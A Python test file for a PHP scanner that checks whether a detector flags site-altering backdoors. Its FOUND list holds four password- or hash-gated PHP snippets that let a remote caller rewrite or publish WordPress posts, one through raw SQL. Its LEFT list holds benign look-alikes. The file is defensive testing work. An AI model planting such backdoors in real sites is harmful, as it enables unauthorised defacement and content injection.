"""Pages of the site that a fixed word opens. The samples are ours, and inert."""

from __future__ import annotations

import pytest

from pratique.content.base import Content
from pratique.content.mark import Mark
from pratique.content.php.analysis import find

SURE = 0.7

FOUND = [
    (
        "<?php if (isset($_REQUEST['password']) && $_REQUEST['password'] == "
        "'5f4dcc3b5aa765d61d8327deb882cf00') { switch ($_REQUEST['action']) { case "
        "'x': $wpdb->query('UPDATE `' . $wpdb->prefix . 'posts` SET `post_content` = "
        "\"' . $c . stripslashes($_REQUEST['data']) . '\" WHERE `ID` = 1'); } }"
    ),
    (
        "<?php if (md5($_COOKIE['k']) === 'd41d8cd98f00b204e9800998ecf8427e') { "
        'mysql_query("UPDATE wp_posts SET post_content = CONCAT(post_content, \'" . '
        "$_POST['h'] . \"')\"); }"
    ),
    (
        "<?php if ($_POST['pw'] == 'x82hf9') { wp_update_post(['ID' => $_POST['id'], "
        "'post_content' => $_POST['html']]); die; }"
    ),
    (
        "<?php if (@$_POST['key'] != 'x82hf9') exit; require 'wp-load.php'; "
        "wp_insert_post(array('post_title' => $_POST['t'], 'post_content' => "
        "$_POST['c'], 'post_status' => 'publish'));"
    ),
]

LEFT = [
    (
        "<?php if (!isset($_POST['nonce']) || !wp_verify_nonce($_POST['nonce'], 'x')) "
        "die; update_option('my', sanitize_text_field($_POST['my']));"
    ),
    (
        "<?php if ($_POST['action'] == 'save' && current_user_can('edit_posts')) { "
        "wp_update_post(['ID' => (int) $_POST['id'], 'post_content' => $_POST['c']]); }"
    ),
    (
        "<?php if ($_POST['action'] == 'create_page') { wp_insert_post(['post_title' "
        "=> $_POST['t']]); }"
    ),
    (
        "<?php if ($_GET['key'] != get_option('cron_key')) die; "
        "update_option('last_run', $_GET['t']);"
    ),
    (
        "<?php if ($_POST['api_key'] !== API_KEY) { http_response_code(403); exit; } "
        "$wpdb->query(\"UPDATE wp_posts SET post_content = '\" . esc_sql($_POST['c']) . "
        '"\'");'
    ),
    (
        "<?php if ($_POST['type'] == 'page') { $wpdb->query(\"UPDATE {$wpdb->posts} SET "
        "post_status = 'draft' WHERE ID = \" . (int) $_POST['id']); }"
    ),
    (
        "<?php if ($_POST['hash'] == md5($secret . $_POST['id'])) { $db->query(\"UPDATE "
        "orders SET paid = 1 WHERE id = \" . (int) $_POST['id']); }"
    ),
]


def sure(source: str) -> set[str]:
    content = Content(source.encode(), "/srv/a/x.php", "php")
    rows = (row for row in find(content) if isinstance(row, Mark))
    return {row.mark for row in rows if row.confidence >= SURE} - {"php-code", "php-profile"}


@pytest.mark.parametrize("source", FOUND)
def test_points_at(source):
    assert "php-changes-site" in sure(source)


@pytest.mark.parametrize("source", LEFT)
def test_leaves_alone(source):
    assert sure(source) == set()
